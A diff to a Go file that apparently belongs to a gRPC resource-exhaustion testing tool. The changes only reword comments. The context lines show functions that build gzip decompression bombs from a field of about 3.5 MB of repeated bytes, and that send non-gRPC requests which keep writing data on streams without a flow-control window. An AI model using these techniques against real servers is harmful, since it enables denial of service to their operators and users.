@@ -13,10 +13,10 @@ import (
 // healthCheck is a method of another service.
 const healthCheck = "/grpc.health.v1.Health/Check"
 
-// inflated is how large a request of a few KB becomes: less than a server takes.
+// inflated is the decompressed size of a request of a few KB. It is below the server's limit.
 const inflated = 7 << 19
 
-// bombs are attacks by requests that are compressed, and by those that are no gRPC.
+// bombs returns attacks with compressed requests, and with requests that are not gRPC.
 func bombs(t Target) []Attack {
 	entry := append(field(1, t.Key), longField(2, inflated)...)
 	request := append(field(1, t.Domain), message(2, message(1, entry))...)
@@ -27,7 +27,7 @@ func bombs(t Target) []Attack {
 	}
 }
 
-// compressedCalls makes calls whose messages are compressed.
+// compressedCalls makes calls with compressed messages.
 func (c *Conn) compressedCalls(path string, request []byte) (func() error, error) {
 	var small bytes.Buffer
 	w := gzip.NewWriter(&small)
@@ -43,7 +43,8 @@ func (c *Conn) compressedCalls(path string, request []byte) (func() error, error
 	return c.callsOf(1, 2, func(b []byte, stream uint32) []byte { return appendCall(b, stream, headers, framed) }), nil
 }
 
-// otherContentType sends requests of another content type, whose answers have no window, and goes on with them.
+// otherContentType sends requests of another content type whose answers have no window, and continues to send data
+// on their streams.
 func otherContentType(c *Conn) (func() error, error) {
 	headers := encode([]hpack.HeaderField{
 		{Name: ":method", Value: "GET"},
@@ -67,12 +68,12 @@ func otherContentType(c *Conn) (func() error, error) {
 	}, nil
 }
 
-// message is a field of a message in protobuf's encoding.
+// message returns a message field in protobuf encoding.
 func message(number byte, value []byte) []byte {
 	return append(binary.AppendUvarint([]byte{number<<3 | 2}, uint64(len(value))), value...)
 }
 
-// longField is a field of so many bytes, all alike.
+// longField returns a field of size equal bytes.
 func longField(number byte, size int) []byte {
 	return message(number, slices.Repeat([]byte("x"), size))
 }
